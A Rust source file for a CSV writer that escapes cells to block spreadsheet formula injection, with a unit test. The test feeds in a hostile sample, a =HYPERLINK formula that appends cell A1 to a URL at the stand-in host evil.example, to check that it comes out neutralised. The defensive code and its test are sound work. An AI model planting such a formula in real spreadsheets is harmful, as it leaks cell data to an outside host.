//! The CSV files the desk writes (orders export, manifest data; returns, audit and reports to
//! come): RFC 4180, and safe to open in a spreadsheet. A text cell that a spreadsheet would take
//! for a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return) is written as
//! text, as OWASP advises for CSV injection: prefixed with `'` and quoted. Numbers are written as
//! numbers, so `-1.5` in a weight column stays a number.

/// One cell of a row.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Cell<'a> {
    /// Anything read from outside (names, references, codes): neutralised when it could run.
    Text(&'a str),
    /// A number the desk computed, with its decimals.
    Number(f64, usize),
    /// A whole number the desk computed.
    Count(i64),
}

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Appends one cell as it is written in the file.
fn push_cell(out: &mut String, cell: Cell<'_>) {
    match cell {
        Cell::Number(n, decimals) => out.push_str(&format!("{n:.decimals$}")),
        Cell::Count(n) => out.push_str(&n.to_string()),
        Cell::Text(s) => {
            let formula = s.starts_with(FORMULA_STARTS);
            if !formula && !s.contains([',', '"', '\n', '\r']) {
                out.push_str(s);
                return;
            }
            out.push('"');
            if formula {
                out.push('\'');
            }
            out.push_str(&s.replace('"', "\"\""));
            out.push('"');
        }
    }
}

/// Appends a row (its cells separated by commas, CRLF-free: a line feed ends it).
pub fn push_row(out: &mut String, cells: &[Cell<'_>]) {
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        push_cell(out, *cell);
    }
    out.push('\n');
}

/// A header row of plain names.
pub fn push_header(out: &mut String, names: &[&str]) {
    let cells: Vec<Cell> = names.iter().map(|n| Cell::Text(n)).collect();
    push_row(out, &cells);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(cells: &[Cell]) -> String {
        let mut s = String::new();
        push_row(&mut s, cells);
        s
    }

    #[test]
    fn formulas_are_written_as_text_and_numbers_as_numbers() {
        assert_eq!(
            row(&[Cell::Text(r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#)]),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"\n"
        );
        for start in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            let written = row(&[Cell::Text(start)]);
            assert!(written.starts_with("\"'"), "{start:?} gave {written:?}");
        }
        assert_eq!(row(&[Cell::Number(-1.5, 3), Cell::Count(-2)]), "-1.500,-2\n");
        assert_eq!(
            row(&[Cell::Text("Smith, Ann"), Cell::Text("plain")]),
            "\"Smith, Ann\",plain\n"
        );
        assert_eq!(row(&[Cell::Text("a\"b")]), "\"a\"\"b\"\n");
    }
}
